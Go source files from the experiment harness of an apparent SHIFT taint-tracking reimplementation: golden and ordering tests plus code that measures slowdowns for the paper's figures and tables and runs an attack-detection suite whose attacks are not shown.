const goldenScaleDiv = 1 << 20

// goldenConfig is one configuration's pinned measurement.
type goldenConfig struct {
	Cycles  uint64   `json:"cycles"`
	Retired uint64   `json:"retired"`
	ByClass []uint64 `json:"byClass"`
}

// goldenRow is one benchmark's pinned measurements.
type goldenRow struct {
	Name    string                  `json:"name"`
	Base    uint64                  `json:"baseCycles"`
	Configs map[string]goldenConfig `json:"configs"`
}

// goldenFile is the serialized golden state.
type goldenFile struct {
	ScaleDiv int         `json:"scaleDiv"`
	Rows     []goldenRow `json:"rows"`
}

// goldenConfigs covers Figure 7 (byte/word x unsafe/safe) and Figure 8
// (the architectural enhancements), so both figures' slowdown ratios are
// pinned transitively: a ratio of two pinned integers cannot drift.
func goldenConfigs() []Config {
	return []Config{
		ByteUnsafe, ByteSafe, WordUnsafe, WordSafe,
		ByteSetClr, ByteBoth, WordSetClr, WordBoth,
	}
}

func goldenPath(t *testing.T) string {
	t.Helper()
	return filepath.Join("testdata", "determinism_golden.json")
}

func measureGolden(t *testing.T) goldenFile {
	t.Helper()
	rows, err := RunSpec(goldenScaleDiv, goldenConfigs())
	if err != nil {
		t.Fatal(err)
	}
	out := goldenFile{ScaleDiv: goldenScaleDiv}
	for _, r := range rows {
		gr := goldenRow{Name: r.Name, Base: r.BaseCycles, Configs: map[string]goldenConfig{}}
		for key, m := range r.Measure {
			gr.Configs[key] = goldenConfig{Cycles: m.Cycles, Retired: m.Retired, ByClass: m.ByClass}
		}
		out.Rows = append(out.Rows, gr)
	}
	return out
}

func TestDeterminismGolden(t *testing.T) {
	got := measureGolden(t)

	if *updateGolden {
		data, err := json.MarshalIndent(got, "", "  ")
		if err != nil {
			t.Fatal(err)
		}
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(goldenPath(t), append(data, '\n'), 0o644); err != nil {
			t.Fatal(err)
		}
		t.Logf("wrote %s", goldenPath(t))
		return
	}

	data, err := os.ReadFile(goldenPath(t))
	if err != nil {
		t.Fatalf("read golden (run with -update to create): %v", err)
	}
	var want goldenFile
	if err := json.Unmarshal(data, &want); err != nil {
		t.Fatal(err)
	}
	if want.ScaleDiv != got.ScaleDiv {
		t.Fatalf("golden scaleDiv %d != %d", want.ScaleDiv, got.ScaleDiv)
	}
	if len(want.Rows) != len(got.Rows) {
		t.Fatalf("golden has %d rows, got %d", len(want.Rows), len(got.Rows))
	}
	for i, wr := range want.Rows {
		gr := got.Rows[i]
		if wr.Name != gr.Name {
			t.Fatalf("row %d: name %q != %q", i, wr.Name, gr.Name)
		}
		if wr.Base != gr.Base {
			t.Errorf("%s: base cycles %d != golden %d", gr.Name, gr.Base, wr.Base)
		}
		for key, wc := range wr.Configs {
			gc, ok := gr.Configs[key]
			if !ok {
				t.Errorf("%s: config %s missing", gr.Name, key)
				continue
			}
			if gc.Cycles != wc.Cycles {
				t.Errorf("%s/%s: cycles %d != golden %d", gr.Name, key, gc.Cycles, wc.Cycles)
			}
			if gc.Retired != wc.Retired {
				t.Errorf("%s/%s: retired %d != golden %d", gr.Name, key, gc.Retired, wc.Retired)
			}
			if !reflect.DeepEqual(gc.ByClass, wc.ByClass) {
				t.Errorf("%s/%s: cost-class breakdown %v != golden %v", gr.Name, key, gc.ByClass, wc.ByClass)
			}
		}
		// Slowdown ratios (the Figure 7/8 bars) are quotients of pinned
		// integers; re-derive them from the golden to make the guarantee
		// explicit in the failure output.
		for key, wc := range wr.Configs {
			gc := gr.Configs[key]
			wantRatio := float64(wc.Cycles) / float64(wr.Base)
			gotRatio := float64(gc.Cycles) / float64(gr.Base)
			if wantRatio != gotRatio {
				t.Errorf("%s/%s: slowdown %v != golden %v", gr.Name, key, gotRatio, wantRatio)
			}
		}
	}
}
