// Package bench is the experiment harness: one function per table or
// figure in the paper's evaluation (§5–§6), each returning structured
// results and able to print itself in the paper's row format. The
// cmd/shiftbench binary and the repository's Go benchmarks are thin
// wrappers over this package.
package bench

import (
	"fmt"
	"math"

	"shift/internal/machine"
	"shift/internal/shift"
	"shift/internal/taint"
	"shift/internal/workload"
)

// Engine selects the execution engine for every benchmark run in this
// package (cmd/shiftbench's -engine flag sets it). The default is the
// translated-block engine; the results are engine-independent — the
// engines are bit-identical in every architectural observable — so the
// knob exists for performance comparison and differential testing.
var Engine machine.Engine

// Tagpipe sets the decoupled tag-pipeline worker count for instrumented
// benchmark runs (cmd/shiftbench's -tagpipe flag). Zero — the default —
// keeps checking inline; N > 0 moves shadow propagation onto N
// asynchronous workers draining at sinks, which changes throughput but
// not verdicts (see DESIGN.md "Decoupled tag pipeline").
var Tagpipe int

// Selective makes every instrumented benchmark run use selective
// instrumentation (cmd/shiftbench's -selective flag): the whole-program
// taint-reachability analysis keeps only sites that may touch taint.
// Verdict-equivalent to full instrumentation; changes cycle counts only.
var Selective bool

// Config is one measurement configuration of the SHIFT system.
type Config struct {
	Key  string
	Gran taint.Granularity
	Feat machine.Features
	// Safe disables taint sources: the instrumentation still runs but
	// no data is ever tainted (the paper's "-safe" bars in Figure 7).
	Safe bool
	// NaTPerFunction and NaTPerUse select the §4.4 ablation variants.
	NaTPerFunction bool
	NaTPerUse      bool
	// Optimize enables the §4.4/§6.4 future-work compiler optimizations.
	Optimize bool
}

// Standard configurations.
var (
	ByteUnsafe  = Config{Key: "byte-unsafe", Gran: taint.Byte}
	ByteSafe    = Config{Key: "byte-safe", Gran: taint.Byte, Safe: true}
	WordUnsafe  = Config{Key: "word-unsafe", Gran: taint.Word}
	WordSafe    = Config{Key: "word-safe", Gran: taint.Word, Safe: true}
	ByteSetClr  = Config{Key: "byte-set/clear", Gran: taint.Byte, Feat: machine.Features{SetClrNaT: true}}
	ByteBoth    = Config{Key: "byte-both", Gran: taint.Byte, Feat: machine.Features{SetClrNaT: true, NaTAwareCmp: true}}
	WordSetClr  = Config{Key: "word-set/clear", Gran: taint.Word, Feat: machine.Features{SetClrNaT: true}}
	WordBoth    = Config{Key: "word-both", Gran: taint.Word, Feat: machine.Features{SetClrNaT: true, NaTAwareCmp: true}}
	BytePerFunc = Config{Key: "byte-nat-per-function", Gran: taint.Byte, NaTPerFunction: true}
	BytePerUse  = Config{Key: "byte-nat-per-use", Gran: taint.Byte, NaTPerUse: true}
	ByteOpt     = Config{Key: "byte-optimized", Gran: taint.Byte, Optimize: true}
	WordOpt     = Config{Key: "word-optimized", Gran: taint.Word, Optimize: true}
)

// options converts a configuration into run options for a benchmark.
func (c Config) options(b *workload.Benchmark) shift.Options {
	conf := b.Config()
	conf.Granularity = c.Gran
	if c.Safe {
		conf.Sources = map[string]bool{}
	}
	return shift.Options{
		Instrument:     true,
		Policy:         conf,
		Features:       c.Feat,
		NaTPerFunction: c.NaTPerFunction,
		NaTPerUse:      c.NaTPerUse,
		Optimize:       c.Optimize,
	}
}

// Measurement is one benchmark run.
type Measurement struct {
	Cycles  uint64
	Retired uint64
	ByClass []uint64 // indexed by isa.CostClass
	Stdout  string
}

// RunBenchmark executes b at the given scale under cfg (or the baseline
// when cfg is nil) and verifies the run was clean.
func RunBenchmark(b *workload.Benchmark, scale int, cfg *Config) (*Measurement, error) {
	var opt shift.Options
	if cfg != nil {
		opt = cfg.options(b)
	}
	opt.Engine = Engine
	if opt.Instrument {
		opt.Decoupled = Tagpipe
		opt.Selective = Selective
	}
	res, err := shift.BuildAndRun(
		[]shift.Source{{Name: b.Name + ".mc", Text: b.Source}}, b.World(scale), opt)
	if err != nil {
		return nil, fmt.Errorf("%s: %w", b.Name, err)
	}
	if res.Trap != nil {
		return nil, fmt.Errorf("%s: trap: %v", b.Name, res.Trap)
	}
	if res.Alert != nil {
		return nil, fmt.Errorf("%s: unexpected alert: %v", b.Name, res.Alert)
	}
	if res.ExitStatus != 0 {
		return nil, fmt.Errorf("%s: exit %d (stdout %q)", b.Name, res.ExitStatus, res.World.Stdout)
	}
	byClass := make([]uint64, len(res.CyclesByClass))
	copy(byClass, res.CyclesByClass[:])
	return &Measurement{
		Cycles:  res.Cycles,
		Retired: res.Retired,
		ByClass: byClass,
		Stdout:  string(res.World.Stdout),
	}, nil
}

// geomean returns the geometric mean of xs.
func geomean(xs []float64) float64 {
	if len(xs) == 0 {
		return 0
	}
	sum := 0.0
	for _, x := range xs {
		sum += math.Log(x)
	}
	return math.Exp(sum / float64(len(xs)))
}
