package bench

import (
	"reflect"
	"testing"
)

// The parallel harness must be invisible in the results: the same cells
// run, and rows are assembled by index, so Workers=4 must reproduce a
// Workers=1 run field-for-field.
func TestParallelMatchesSerial(t *testing.T) {
	withWorkers := func(w int) []SpecRow {
		t.Helper()
		old := Workers
		Workers = w
		defer func() { Workers = old }()
		rows, err := RunSpec(goldenScaleDiv, []Config{ByteUnsafe, WordUnsafe})
		if err != nil {
			t.Fatalf("Workers=%d: %v", w, err)
		}
		return rows
	}
	serial := withWorkers(1)
	parallel := withWorkers(4)
	if !reflect.DeepEqual(serial, parallel) {
		t.Errorf("parallel RunSpec diverged from serial:\nserial:   %+v\nparallel: %+v",
			serial, parallel)
	}
}

func TestParallelForLowestIndexError(t *testing.T) {
	for _, w := range []int{1, 4} {
		old := Workers
		Workers = w
		err := parallelFor(16, func(i int) error {
			if i == 3 || i == 11 {
				return errIndex(i)
			}
			return nil
		})
		Workers = old
		if got, ok := err.(errIndex); !ok || int(got) != 3 {
			t.Errorf("Workers=%d: got %v, want index-3 error", w, err)
		}
	}
}

type errIndex int

func (e errIndex) Error() string { return "cell failed" }

func TestParallelForEmpty(t *testing.T) {
	if err := parallelFor(0, func(int) error { t.Fatal("fn called"); return nil }); err != nil {
		t.Fatal(err)
	}
}
