package bench

import (
	"bytes"
	"strings"
	"testing"
)

// The bench tests run the experiments at a small scale and assert the
// *orderings* the paper reports, not absolute numbers.

const testScaleDiv = 16

func TestFig7Orderings(t *testing.T) {
	rows, err := Fig7(testScaleDiv)
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 8 {
		t.Fatalf("%d rows, want 8", len(rows))
	}
	for _, r := range rows {
		for key, s := range r.Slowdown {
			if s <= 1.0 {
				t.Errorf("%s %s: slowdown %.2f <= 1", r.Name, key, s)
			}
		}
		if r.Slowdown["byte-safe"] > r.Slowdown["byte-unsafe"]+1e-9 {
			t.Errorf("%s: safe input costs more than unsafe at byte level", r.Name)
		}
		if r.Slowdown["word-safe"] > r.Slowdown["word-unsafe"]+1e-9 {
			t.Errorf("%s: safe input costs more than unsafe at word level", r.Name)
		}
	}
	if Geomean(rows, "word-unsafe") > Geomean(rows, "byte-unsafe") {
		t.Errorf("word tracking (%.2fX) costs more than byte (%.2fX)",
			Geomean(rows, "word-unsafe"), Geomean(rows, "byte-unsafe"))
	}
	var buf bytes.Buffer
	PrintFig7(&buf, rows)
	if !strings.Contains(buf.String(), "geomean") {
		t.Error("report lacks geomean row")
	}
}

func TestFig8EnhancementsReduce(t *testing.T) {
	rows, err := Fig8(testScaleDiv)
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rows {
		if r.Slowdown["byte-both"] > r.Slowdown["byte-set/clear"]+1e-9 ||
			r.Slowdown["byte-set/clear"] > r.Slowdown["byte-unsafe"]+1e-9 {
			t.Errorf("%s: byte enhancements not monotone: %.2f %.2f %.2f", r.Name,
				r.Slowdown["byte-unsafe"], r.Slowdown["byte-set/clear"], r.Slowdown["byte-both"])
		}
		if r.Slowdown["word-both"] > r.Slowdown["word-unsafe"]+1e-9 {
			t.Errorf("%s: word enhancements did not help", r.Name)
		}
	}
	var buf bytes.Buffer
	PrintFig8(&buf, rows)
	if !strings.Contains(buf.String(), "reduction") {
		t.Error("report lacks the reduction table")
	}
}

func TestFig9ComputationDominates(t *testing.T) {
	rows, err := Fig9(testScaleDiv)
	if err != nil {
		t.Fatal(err)
	}
	// The paper's claims: computation incurs much more overhead than
	// tag memory access, and load instrumentation outweighs stores.
	// Both should hold in aggregate.
	var ldc, ldm, stc, stm float64
	for _, r := range rows {
		ldc += r.LoadCompute["byte"]
		ldm += r.LoadTagMem["byte"]
		stc += r.StoreCompute["byte"]
		stm += r.StoreTagMem["byte"]
	}
	if ldc <= ldm {
		t.Errorf("load computation (%.2f) not above tag memory access (%.2f)", ldc, ldm)
	}
	if stc <= stm {
		t.Errorf("store computation (%.2f) not above tag memory access (%.2f)", stc, stm)
	}
	if ldc+ldm <= stc+stm {
		t.Errorf("loads (%.2f) not above stores (%.2f)", ldc+ldm, stc+stm)
	}
	var buf bytes.Buffer
	PrintFig9(&buf, rows)
	if !strings.Contains(buf.String(), "ld-compute") {
		t.Error("report incomplete")
	}
}

func TestFig6OverheadSmallAndShrinking(t *testing.T) {
	rows, err := Fig6(20, []int{4 * 1024, 64 * 1024})
	if err != nil {
		t.Fatal(err)
	}
	small := 1/rows[0].RelLatency["byte-unsafe"] - 1
	large := 1/rows[1].RelLatency["byte-unsafe"] - 1
	if small > 0.25 {
		t.Errorf("4KB overhead %.1f%% is not server-like", small*100)
	}
	if large >= small {
		t.Errorf("overhead did not shrink with file size: %.3f%% -> %.3f%%", small*100, large*100)
	}
	var buf bytes.Buffer
	PrintFig6(&buf, rows)
	if !strings.Contains(buf.String(), "4KB") {
		t.Error("report lacks file sizes")
	}
}

func TestTable2AllDetected(t *testing.T) {
	results, err := Table2()
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range results {
		if !r.Detected() {
			t.Errorf("%s at %s not detected", r.Attack.Program, r.Gran)
		}
	}
	var buf bytes.Buffer
	PrintTable2(&buf, results)
	if strings.Contains(buf.String(), "NO (") {
		t.Error("report contains failures")
	}
}

func TestTable3Expansion(t *testing.T) {
	rows, err := Table3()
	if err != nil {
		t.Fatal(err)
	}
	if rows[0].Name != "rtlib" || len(rows) != 9 {
		t.Fatalf("rows: %d, first %q", len(rows), rows[0].Name)
	}
	for _, r := range rows {
		if !(r.Original < r.Word && r.Word < r.Byte) {
			t.Errorf("%s: counts not increasing: %d %d %d", r.Name, r.Original, r.Word, r.Byte)
		}
	}
	var buf bytes.Buffer
	PrintTable3(&buf, rows)
	if !strings.Contains(buf.String(), "rtlib") {
		t.Error("report incomplete")
	}
}

func TestAblationOrdering(t *testing.T) {
	rows, err := Ablation(testScaleDiv)
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rows {
		if r.Slowdown["byte-nat-per-use"] <= r.Slowdown["byte-unsafe"] {
			t.Errorf("%s: per-use regeneration not more expensive", r.Name)
		}
	}
}

func TestPrintAllUnknownExperiment(t *testing.T) {
	var buf bytes.Buffer
	if err := PrintAll(&buf, "fig99", 16, 5); err == nil {
		t.Error("unknown experiment accepted")
	}
}

func TestPrintTable1(t *testing.T) {
	var buf bytes.Buffer
	PrintTable1(&buf)
	for _, id := range []string{"H1", "H5", "L3"} {
		if !strings.Contains(buf.String(), id) {
			t.Errorf("table 1 lacks %s", id)
		}
	}
}

// TestSensitivityOrderingsHold verifies that the paper's ordering claims
// are robust to the cost model: every skewed variant preserves
// byte >= word > enhanced > 1.
func TestSensitivityOrderingsHold(t *testing.T) {
	rows, err := Sensitivity(testScaleDiv, []string{"gzip", "mcf"})
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 2*len(SensitivityModels()) {
		t.Fatalf("rows = %d", len(rows))
	}
	for _, r := range rows {
		if !r.Orderings {
			t.Errorf("%s under %s: orderings violated (byte %.2f word %.2f enh %.2f)",
				r.Bench, r.Model, r.Byte, r.Word, r.Enhanced)
		}
	}
	var buf bytes.Buffer
	PrintSensitivity(&buf, rows)
	if !strings.Contains(buf.String(), "hold") {
		t.Error("report incomplete")
	}
}

// TestThreadsExperiment smoke-tests the multi-threaded measurement.
func TestThreadsExperiment(t *testing.T) {
	rows, err := Threads(1024, []int{1, 4})
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rows {
		if r.Slowdown["byte-unsafe"] <= 1 {
			t.Errorf("k=%d: no overhead measured", r.Workers)
		}
	}
	var buf bytes.Buffer
	PrintThreads(&buf, rows)
	if !strings.Contains(buf.String(), "workers") {
		t.Error("report incomplete")
	}
}

// TestOptimizationExperiment: the §6.4 optimizations help every benchmark.
func TestOptimizationExperiment(t *testing.T) {
	rows, err := Optimization(testScaleDiv)
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rows {
		if r.Slowdown["byte-optimized"] >= r.Slowdown["byte-unsafe"] {
			t.Errorf("%s: optimization did not help", r.Name)
		}
	}
	var buf bytes.Buffer
	PrintOptimization(&buf, rows)
	if !strings.Contains(buf.String(), "geomean") {
		t.Error("report incomplete")
	}
}
