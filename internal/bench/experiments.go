package bench

import (
	"fmt"
	"io"
	"strings"

	"shift/internal/attacks"
	"shift/internal/isa"
	"shift/internal/policy"
	"shift/internal/shift"
	"shift/internal/taint"
	"shift/internal/workload"
)

// ---------------------------------------------------------------------------
// Figure 6: Apache (httpd) overhead.

// Fig6Row is one file size of the Apache experiment.
type Fig6Row struct {
	FileSize int
	Requests int

	BaseCycles uint64
	Cycles     map[string]uint64 // config key -> cycles

	// RelLatency and RelThroughput are instrumented performance relative
	// to baseline (1.0 = no overhead), per config key.
	RelLatency    map[string]float64
	RelThroughput map[string]float64
}

// Fig6 runs the httpd workload at each file size with the given request
// count, at byte and word granularity. Cells (one file size under one
// configuration, plus its baseline) run on the worker pool.
func Fig6(requests int, fileSizes []int) ([]Fig6Row, error) {
	configs := []Config{ByteUnsafe, WordUnsafe}
	stride := 1 + len(configs)
	cells := make([]*shift.Result, len(fileSizes)*stride)
	err := parallelFor(len(cells), func(i int) error {
		size := fileSizes[i/stride]
		var opt shift.Options
		if j := i % stride; j != 0 {
			cfg := configs[j-1]
			conf := workload.HTTPDConfig()
			conf.Granularity = cfg.Gran
			opt = shift.Options{Instrument: true, Policy: conf, Features: cfg.Feat}
		}
		res, err := shift.BuildAndRun(
			[]shift.Source{{Name: "httpd.mc", Text: workload.HTTPDSource}},
			workload.HTTPDWorld(requests, size), opt)
		if err != nil {
			return err
		}
		if res.Trap != nil || res.Alert != nil {
			return fmt.Errorf("httpd size %d: trap=%v alert=%v", size, res.Trap, res.Alert)
		}
		cells[i] = res
		return nil
	})
	if err != nil {
		return nil, err
	}
	var rows []Fig6Row
	for si, size := range fileSizes {
		base := cells[si*stride]
		row := Fig6Row{
			FileSize:      size,
			Requests:      requests,
			BaseCycles:    base.Cycles,
			Cycles:        map[string]uint64{},
			RelLatency:    map[string]float64{},
			RelThroughput: map[string]float64{},
		}
		for ci, cfg := range configs {
			res := cells[si*stride+1+ci]
			if string(res.World.Stdout) != string(base.World.Stdout) {
				return nil, fmt.Errorf("httpd size %d: output diverged under %s", size, cfg.Key)
			}
			row.Cycles[cfg.Key] = res.Cycles
			// Latency per request scales with cycles; throughput is
			// bytes served per cycle. Both relative to baseline.
			row.RelLatency[cfg.Key] = float64(base.Cycles) / float64(res.Cycles)
			row.RelThroughput[cfg.Key] = float64(base.Cycles) / float64(res.Cycles)
		}
		rows = append(rows, row)
	}
	return rows, nil
}

// PrintFig6 renders the figure as a table of relative performance.
func PrintFig6(w io.Writer, rows []Fig6Row) {
	fmt.Fprintln(w, "Figure 6: relative performance of SHIFT for the HTTP server")
	fmt.Fprintln(w, "(1.00 = no overhead; paper: ~1% mean overhead, worst ~4.2% at 4KB)")
	fmt.Fprintf(w, "%-10s %12s %12s %14s %14s\n", "file", "byte-lat", "word-lat", "byte-overhead", "word-overhead")
	for _, r := range rows {
		fmt.Fprintf(w, "%-10s %12.4f %12.4f %13.2f%% %13.2f%%\n",
			sizeName(r.FileSize),
			r.RelLatency["byte-unsafe"], r.RelLatency["word-unsafe"],
			(1/r.RelLatency["byte-unsafe"]-1)*100,
			(1/r.RelLatency["word-unsafe"]-1)*100)
	}
}

func sizeName(n int) string {
	if n >= 1024 && n%1024 == 0 {
		return fmt.Sprintf("%dKB", n/1024)
	}
	return fmt.Sprintf("%dB", n)
}

// ---------------------------------------------------------------------------
// Figure 7: SPEC slowdowns.

// SpecRow is one benchmark's slowdowns across configurations.
type SpecRow struct {
	Name       string
	BaseCycles uint64
	Slowdown   map[string]float64 // config key -> cycles/baseline
	Measure    map[string]*Measurement
}

// RunSpec measures every benchmark at the given scale divisor under the
// given configurations, verifying output equivalence against baseline.
// Cells (one benchmark under one configuration, plus its baseline) run
// on the worker pool; rows are assembled in benchmark order afterwards.
func RunSpec(scaleDiv int, configs []Config) ([]SpecRow, error) {
	benches := workload.All()
	stride := 1 + len(configs) // baseline + one cell per config
	cells := make([]*Measurement, len(benches)*stride)
	err := parallelFor(len(cells), func(i int) error {
		b := benches[i/stride]
		scale := b.RefScale / scaleDiv
		if scale < 64 {
			scale = 64
		}
		var err error
		if j := i % stride; j == 0 {
			cells[i], err = RunBenchmark(b, scale, nil)
		} else {
			cfg := configs[j-1]
			cells[i], err = RunBenchmark(b, scale, &cfg)
			if err != nil {
				err = fmt.Errorf("%s under %s: %w", b.Name, cfg.Key, err)
			}
		}
		return err
	})
	if err != nil {
		return nil, err
	}
	var rows []SpecRow
	for bi, b := range benches {
		base := cells[bi*stride]
		row := SpecRow{
			Name:       b.Name,
			BaseCycles: base.Cycles,
			Slowdown:   map[string]float64{},
			Measure:    map[string]*Measurement{},
		}
		for ci, cfg := range configs {
			m := cells[bi*stride+1+ci]
			if m.Stdout != base.Stdout {
				return nil, fmt.Errorf("%s under %s: output diverged (%q vs %q)",
					b.Name, cfg.Key, m.Stdout, base.Stdout)
			}
			row.Slowdown[cfg.Key] = float64(m.Cycles) / float64(base.Cycles)
			row.Measure[cfg.Key] = m
		}
		rows = append(rows, row)
	}
	return rows, nil
}

// Geomean returns the geometric-mean slowdown for one configuration key.
func Geomean(rows []SpecRow, key string) float64 {
	var xs []float64
	for _, r := range rows {
		xs = append(xs, r.Slowdown[key])
	}
	return geomean(xs)
}

// Fig7 runs the Figure 7 configurations (byte/word x unsafe/safe).
func Fig7(scaleDiv int) ([]SpecRow, error) {
	return RunSpec(scaleDiv, []Config{ByteUnsafe, ByteSafe, WordUnsafe, WordSafe})
}

// PrintFig7 renders the per-benchmark slowdown bars.
func PrintFig7(w io.Writer, rows []SpecRow) {
	keys := []string{"byte-unsafe", "byte-safe", "word-unsafe", "word-safe"}
	fmt.Fprintln(w, "Figure 7: SPEC-like slowdown vs uninstrumented baseline")
	fmt.Fprintln(w, "(paper averages: byte 2.81X [1.32-4.73], word 2.27X [1.34-3.80])")
	fmt.Fprintf(w, "%-10s", "bench")
	for _, k := range keys {
		fmt.Fprintf(w, " %14s", k)
	}
	fmt.Fprintln(w)
	for _, r := range rows {
		fmt.Fprintf(w, "%-10s", r.Name)
		for _, k := range keys {
			fmt.Fprintf(w, " %13.2fX", r.Slowdown[k])
		}
		fmt.Fprintln(w)
	}
	fmt.Fprintf(w, "%-10s", "geomean")
	for _, k := range keys {
		fmt.Fprintf(w, " %13.2fX", Geomean(rows, k))
	}
	fmt.Fprintln(w)
}

// ---------------------------------------------------------------------------
// Figure 8: architectural enhancements.

// Fig8 measures the enhancement configurations.
func Fig8(scaleDiv int) ([]SpecRow, error) {
	return RunSpec(scaleDiv, []Config{
		ByteUnsafe, ByteSetClr, ByteBoth,
		WordUnsafe, WordSetClr, WordBoth,
	})
}

// PrintFig8 renders slowdowns plus the reduction the paper reports
// (difference between original and enhanced slowdowns).
func PrintFig8(w io.Writer, rows []SpecRow) {
	fmt.Fprintln(w, "Figure 8: impact of the proposed architectural enhancements")
	fmt.Fprintln(w, "(paper: set/clear alone ~16% slowdown reduction; both ~49%/47% byte/word)")
	keys := []string{"byte-unsafe", "byte-set/clear", "byte-both", "word-unsafe", "word-set/clear", "word-both"}
	fmt.Fprintf(w, "%-10s", "bench")
	for _, k := range keys {
		fmt.Fprintf(w, " %15s", k)
	}
	fmt.Fprintln(w)
	for _, r := range rows {
		fmt.Fprintf(w, "%-10s", r.Name)
		for _, k := range keys {
			fmt.Fprintf(w, " %14.2fX", r.Slowdown[k])
		}
		fmt.Fprintln(w)
	}
	fmt.Fprintf(w, "%-10s", "geomean")
	for _, k := range keys {
		fmt.Fprintf(w, " %14.2fX", Geomean(rows, k))
	}
	fmt.Fprintln(w)
	fmt.Fprintf(w, "\nSlowdown reduction (original minus enhanced, in slowdown points):\n")
	fmt.Fprintf(w, "%-10s %18s %18s %18s %18s\n", "bench",
		"byte set/clear", "byte both", "word set/clear", "word both")
	for _, r := range rows {
		fmt.Fprintf(w, "%-10s %17.0f%% %17.0f%% %17.0f%% %17.0f%%\n", r.Name,
			(r.Slowdown["byte-unsafe"]-r.Slowdown["byte-set/clear"])*100,
			(r.Slowdown["byte-unsafe"]-r.Slowdown["byte-both"])*100,
			(r.Slowdown["word-unsafe"]-r.Slowdown["word-set/clear"])*100,
			(r.Slowdown["word-unsafe"]-r.Slowdown["word-both"])*100)
	}
}

// ---------------------------------------------------------------------------
// Figure 9: cost breakdown.

// Fig9Row is one benchmark's instrumentation-cost breakdown, as fractions
// of baseline execution time (the paper normalises to the original run).
type Fig9Row struct {
	Name string
	// Overhead per class, per granularity key ("byte"/"word"), as a
	// multiple of baseline cycles.
	LoadCompute  map[string]float64
	LoadTagMem   map[string]float64
	StoreCompute map[string]float64
	StoreTagMem  map[string]float64
}

// Fig9 derives the breakdown from fresh byte/word runs.
func Fig9(scaleDiv int) ([]Fig9Row, error) {
	rows, err := RunSpec(scaleDiv, []Config{ByteUnsafe, WordUnsafe})
	if err != nil {
		return nil, err
	}
	var out []Fig9Row
	for _, r := range rows {
		fr := Fig9Row{
			Name:         r.Name,
			LoadCompute:  map[string]float64{},
			LoadTagMem:   map[string]float64{},
			StoreCompute: map[string]float64{},
			StoreTagMem:  map[string]float64{},
		}
		for key, g := range map[string]string{"byte-unsafe": "byte", "word-unsafe": "word"} {
			m := r.Measure[key]
			base := float64(r.BaseCycles)
			fr.LoadCompute[g] = float64(m.ByClass[isa.ClassLoadCompute]) / base
			fr.LoadTagMem[g] = float64(m.ByClass[isa.ClassLoadTagMem]) / base
			fr.StoreCompute[g] = float64(m.ByClass[isa.ClassStoreCompute]) / base
			fr.StoreTagMem[g] = float64(m.ByClass[isa.ClassStoreTagMem]) / base
		}
		out = append(out, fr)
	}
	return out, nil
}

// PrintFig9 renders the breakdown.
func PrintFig9(w io.Writer, rows []Fig9Row) {
	fmt.Fprintln(w, "Figure 9: breakdown of load/store instrumentation cost")
	fmt.Fprintln(w, "(fractions of baseline time; paper: computation >> tag memory access,")
	fmt.Fprintln(w, " loads >> stores, gap larger at byte level)")
	fmt.Fprintf(w, "%-10s %6s %12s %12s %12s %12s\n",
		"bench", "gran", "ld-compute", "ld-tag-mem", "st-compute", "st-tag-mem")
	for _, r := range rows {
		for _, g := range []string{"byte", "word"} {
			fmt.Fprintf(w, "%-10s %6s %11.2fx %11.2fx %11.2fx %11.2fx\n",
				r.Name, g, r.LoadCompute[g], r.LoadTagMem[g], r.StoreCompute[g], r.StoreTagMem[g])
		}
	}
}

// ---------------------------------------------------------------------------
// Table 1: the policy catalogue.

// PrintTable1 renders the policy catalogue.
func PrintTable1(w io.Writer) {
	fmt.Fprintln(w, "Table 1: security policies in SHIFT")
	fmt.Fprintf(w, "%-6s %-32s %s\n", "Policy", "Attacks to Detect", "Description")
	for _, r := range policy.Catalog() {
		fmt.Fprintf(w, "%-6s %-32s %s\n", r.ID, r.Attack, r.Description)
	}
}

// ---------------------------------------------------------------------------
// Table 2: security evaluation.

// Table2 runs the attack suite, one (attack, granularity) cell per
// worker, in the same order attacks.EvaluateAll produces.
func Table2() ([]*attacks.Result, error) {
	all := attacks.All()
	grans := []taint.Granularity{taint.Byte, taint.Word}
	results := make([]*attacks.Result, len(all)*len(grans))
	err := parallelFor(len(results), func(i int) error {
		var err error
		results[i], err = attacks.Evaluate(all[i/len(grans)], grans[i%len(grans)])
		return err
	})
	if err != nil {
		return nil, err
	}
	return results, nil
}

// PrintTable2 renders the detection matrix.
func PrintTable2(w io.Writer, results []*attacks.Result) {
	fmt.Fprintln(w, "Table 2: security evaluation (each attack at byte and word level)")
	fmt.Fprintf(w, "%-14s %-26s %-8s %-24s %-28s %-5s %s\n",
		"CVE#", "Program", "Lang", "Attack Type", "Policies", "Gran", "Detected?")
	for _, r := range results {
		verdict := "Yes"
		if !r.Detected() {
			verdict = fmt.Sprintf("NO (benign=%q exploit=%q raw-ok=%v)",
				r.BenignAlert, r.ExploitPolicy, r.UnprotectedSucceeded)
		}
		fmt.Fprintf(w, "%-14s %-26s %-8s %-24s %-28s %-5s %s\n",
			r.Attack.CVE, r.Attack.Program, r.Attack.Language, r.Attack.Type,
			r.Attack.Policies, r.Gran, verdict)
	}
}

// ---------------------------------------------------------------------------
// Table 3: code-size expansion.

// Table3Row is one program's static code growth.
type Table3Row struct {
	Name     string
	Original int
	Word     int
	Byte     int
}

// WordPct and BytePct return expansion percentages.
func (r Table3Row) WordPct() float64 { return (float64(r.Word)/float64(r.Original) - 1) * 100 }

// BytePct returns the byte-level expansion percentage.
func (r Table3Row) BytePct() float64 { return (float64(r.Byte)/float64(r.Original) - 1) * 100 }

// Table3 measures static instruction counts for the runtime library (the
// glibc analogue) and each benchmark.
func Table3() ([]Table3Row, error) {
	count := func(srcs []shift.Source, opt shift.Options) (int, error) {
		p, err := shift.Build(srcs, opt)
		if err != nil {
			return 0, err
		}
		return len(p.Text), nil
	}
	measure := func(name string, srcs []shift.Source, permissive []string) (Table3Row, error) {
		row := Table3Row{Name: name}
		conf := policy.DefaultConfig()
		for _, fn := range permissive {
			conf.NoTrack[fn] = true
		}
		var err error
		if row.Original, err = count(srcs, shift.Options{}); err != nil {
			return row, err
		}
		confW := *conf
		confW.Granularity = taint.Word
		if row.Word, err = count(srcs, shift.Options{Instrument: true, Policy: &confW}); err != nil {
			return row, err
		}
		confB := *conf
		confB.Granularity = taint.Byte
